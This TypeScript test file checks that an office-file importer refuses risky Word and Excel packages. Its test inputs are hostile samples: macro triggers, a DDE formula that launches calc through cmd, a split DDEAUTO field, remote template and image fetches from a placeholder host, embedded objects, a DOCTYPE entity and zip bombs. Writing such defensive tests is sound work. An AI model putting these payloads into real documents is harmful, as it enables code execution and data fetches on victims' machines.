import { Buffer } from 'node:buffer';
import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { FormRefused, type FormRefusalCode } from '../../../../db/exchange/forms/form-refused.ts';
import { openOfficeFile } from '../../../../db/exchange/forms/package/office-file.ts';
import { documentParts, noticeBody } from './superior-document.ts';
import { workbookParts, zipOf, type Parts } from './superior-workbook.ts';

const word = documentParts(noticeBody);
const types = (parts: Parts): string => String(parts['[Content_Types].xml']);
const withRelation = (parts: Parts, of: string, relation: string): Parts => ({
  ...parts,
  [of]: String(parts[of] ?? '<Relationships></Relationships>').replace(
    '</Relationships>',
    `${relation}</Relationships>`,
  ),
});
const relation = (type: string, target: string, isExternal = true): string =>
  `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`;
const sheetWith = (formula: string): Parts => ({
  ...workbookParts,
  'xl/worksheets/sheet3.xml': String(workbookParts['xl/worksheets/sheet3.xml']).replace('1+1', () => formula),
});
const bodyWith = (inner: string): Parts => ({
  ...word,
  'word/document.xml': noticeBody.replace('<w:body>', `<w:body>${inner}`),
});
const main = 'word/_rels/document.xml.rels';

async function refusalOf(given: Parts | Buffer): Promise<FormRefusalCode | null> {
  const bytes = Buffer.isBuffer(given) ? given : await zipOf(given);
  try {
    await openOfficeFile(bytes);
    return null;
  } catch (cause) {
    if (cause instanceof FormRefused) return cause.code;
    throw cause;
  }
}

describe('a form file is refused', () => {
  const cases: readonly (readonly [string, Parts, FormRefusalCode])[] = [
    [
      'macros by content type',
      {
        ...workbookParts,
        '[Content_Types].xml': types(workbookParts).replace(
          'spreadsheetml.sheet.main',
          'ms-excel.sheet.macroEnabled.main',
        ),
      },
      'has-macros',
    ],
    ['a macro project without saying so', { ...word, 'word/vbaProject.bin': 'x' }, 'has-macros'],
    ['a sheet of old macros', { ...workbookParts, 'xl/macrosheets/sheet1.xml': '<x/>' }, 'has-macros'],
    [
      'a name that runs on opening',
      {
        ...workbookParts,
        'xl/workbook.xml': String(workbookParts['xl/workbook.xml']).replace('总人数', '_xlnm.Auto_Open'),
      },
      'has-macros',
    ],
    [
      'a link to another workbook',
      { ...workbookParts, 'xl/externalLinks/externalLink1.xml': '<x/>' },
      'has-links',
    ],
    ['a data connection', { ...workbookParts, 'xl/connections.xml': '<x/>' }, 'has-links'],
    ['a formula that fetches', sheetWith('WEBSERVICE("http://x.invalid")'), 'has-links'],
    ['a formula that calls a program', sheetWith("cmd|'/C calc'!A0"), 'has-links'],
    [
      'a template from the network',
      withRelation(word, main, relation('attachedTemplate', 'http://x.invalid/a.dotm')),
      'has-links',
    ],
    [
      'a template from another computer',
      withRelation(word, main, relation('attachedTemplate', 'file://server/a.dotm')),
      'has-links',
    ],
    [
      'a picture from the network',
      withRelation(word, main, relation('image', 'http://x.invalid/a.png')),
      'has-links',
    ],
    ['an embedded object', { ...word, 'word/embeddings/oleObject1.bin': 'x' }, 'has-objects'],
    [
      'an object by relation only',
      withRelation(word, main, relation('oleObject', 'thing.bin', false)),
      'has-objects',
    ],
    ['a control', { ...word, 'word/activeX/activeX1.xml': '<x/>' }, 'has-objects'],
    [
      'another document inside',
      withRelation(word, main, relation('aFChunk', 'chunk.html', false)),
      'has-objects',
    ],
    [
      'a field that fetches, cut over two runs',
      bodyWith(
        '<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>',
      ),
      'has-links',
    ],
    ['a document type', { ...word, 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }, 'has-doctype'],
    ['XML in another encoding', { ...word, 'word/styles.xml': Buffer.from('<x/>', 'utf16le') }, 'damaged'],
    ['XML that breaks off', { ...word, 'word/document.xml': noticeBody.slice(0, -20) }, 'damaged'],
    ['another kind of file', { '[Content_Types].xml': '<Types/>', 'a.txt': 'x' }, 'wrong-type'],
    ['no office file at all', { 'a.txt': 'x' }, 'wrong-type'],
  ];
  test.each(cases)('with %s', async (_, parts, code) => {
    expect(await refusalOf(parts)).toBe(code);
  });

  test('when it is old, locked, broken or something else', async () => {
    const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
    expect(await refusalOf(ole)).toBe('old-office');
    expect(await refusalOf(Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]))).toBe(
      'encrypted',
    );
    expect(await refusalOf(Buffer.from('%PDF-1.7'))).toBe('wrong-type');
    const good = await zipOf(workbookParts);
    expect(await refusalOf(good.subarray(0, good.length - 400))).toBe('damaged');
    const flipped = Buffer.from(good);
    flipped[200] = (flipped[200] ?? 0) ^ 0xff;
    expect(await refusalOf(flipped)).toBe('damaged');
  });

  test('when it unpacks to too much, whatever its directory claims', async () => {
    const bomb = Buffer.alloc(40 * 1024 * 1024);
    expect(deflateRawSync(bomb).length).toBeLessThan(100_000);
    expect(await refusalOf({ ...word, 'word/media/a.png': bomb })).toBe('too-large');
    const many = Object.fromEntries(
      Array.from({ length: 2100 }, (_, i) => [`word/media/${String(i)}.png`, '']),
    );
    expect(await refusalOf({ ...word, ...many })).toBe('too-large');
    const pieces = Object.fromEntries(
      Array.from({ length: 5 }, (_, i) => [`word/media/${String(i)}.png`, Buffer.alloc(20 * 1024 * 1024)]),
    );
    expect(await refusalOf({ ...word, ...pieces })).toBe('too-large');
  });
});

test('a link to a page and the name of the own template are no danger', async () => {
  const parts = withRelation(
    withRelation(word, main, relation('hyperlink', 'https://www.gov.cn/')),
    'word/_rels/settings.xml.rels',
    relation('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
  );
  expect(await refusalOf(parts)).toBeNull();
  expect(await refusalOf(workbookParts)).toBeNull();
  expect(await refusalOf(sheetWith('IF(A1="|","call (1)",2)'))).toBeNull();
});
